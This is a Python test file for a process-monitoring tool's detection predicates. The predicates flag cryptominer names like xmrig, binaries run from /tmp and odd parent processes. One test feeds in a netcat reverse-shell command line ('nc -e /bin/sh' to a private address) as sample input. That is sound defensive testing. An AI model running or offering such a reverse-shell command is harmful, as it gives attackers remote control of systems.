"""Tests for pluggable process pattern predicates."""

from sentinel.models import AlertCategory, AlertSeverity
from sentinel.patterns import (
    PatternSet,
    default_security_set,
    default_suspicious_set,
    executes_from,
    matches_substring,
    unexpected_parent,
)


class TestPredicates:
    """Tests for the stock predicate factories."""

    def test_substring_matches_name_case_insensitive(self, make_process):
        predicate = matches_substring(["xmrig"])
        proc = make_process(name="XMRig")
        assert predicate(proc, {}) == "matched 'xmrig'"

    def test_substring_matches_command_line(self, make_process):
        predicate = matches_substring(["nc -e"])
        proc = make_process(name="nc", command_line="nc -e /bin/sh 10.0.0.1 4444")
        assert predicate(proc, {}) is not None

    def test_substring_no_match(self, make_process):
        assert matches_substring(["xmrig"])(make_process(name="bash"), {}) is None

    def test_executes_from_tmp(self, make_process):
        proc = make_process(exe="/tmp/.x/kworker")
        assert executes_from()(proc, {}) == "executing from /tmp/.x/kworker"

    def test_executes_from_ignores_system_paths(self, make_process):
        assert executes_from()(make_process(exe="/usr/bin/python3"), {}) is None

    def test_unexpected_parent(self, make_process):
        shell = make_process(pid=50, name="bash")
        sshd = make_process(pid=60, ppid=50, name="sshd")
        table = {50: shell, 60: sshd}
        assert "unexpected parent 'bash'" in unexpected_parent()(sshd, table)

    def test_expected_parent(self, make_process):
        init = make_process(pid=1, name="systemd")
        sshd = make_process(pid=60, ppid=1, name="sshd")
        assert unexpected_parent()(sshd, {1: init, 60: sshd}) is None

    def test_missing_parent_is_not_a_match(self, make_process):
        sshd = make_process(pid=60, ppid=999, name="sshd")
        assert unexpected_parent()(sshd, {60: sshd}) is None


class TestPatternSet:
    """Tests for PatternSet composition."""

    def test_defaults(self, make_process):
        suspicious = default_suspicious_set(["minerd"])
        assert suspicious.category is AlertCategory.SUSPICIOUS
        assert suspicious.severity is AlertSeverity.WARNING
        assert suspicious.classify(make_process(name="minerd"), {}) == "matched 'minerd'"

        security = default_security_set(["kinsing"])
        assert security.category is AlertCategory.SECURITY_THREAT
        assert security.severity is AlertSeverity.DANGER

    def test_add_custom_predicate(self, make_process):
        patterns = PatternSet(AlertCategory.SUSPICIOUS, AlertSeverity.WARNING, "Odd")
        patterns.add(lambda proc, table: "too many threads" if proc.threads > 1000 else None)

        assert patterns.classify(make_process(threads=5000), {}) == "too many threads"
        assert patterns.classify(make_process(threads=5), {}) is None

    def test_first_match_wins(self, make_process):
        patterns = PatternSet(
            AlertCategory.SUSPICIOUS,
            AlertSeverity.WARNING,
            "Odd",
            predicates=[lambda p, t: "first", lambda p, t: "second"],
        )
        assert patterns.classify(make_process(), {}) == "first"
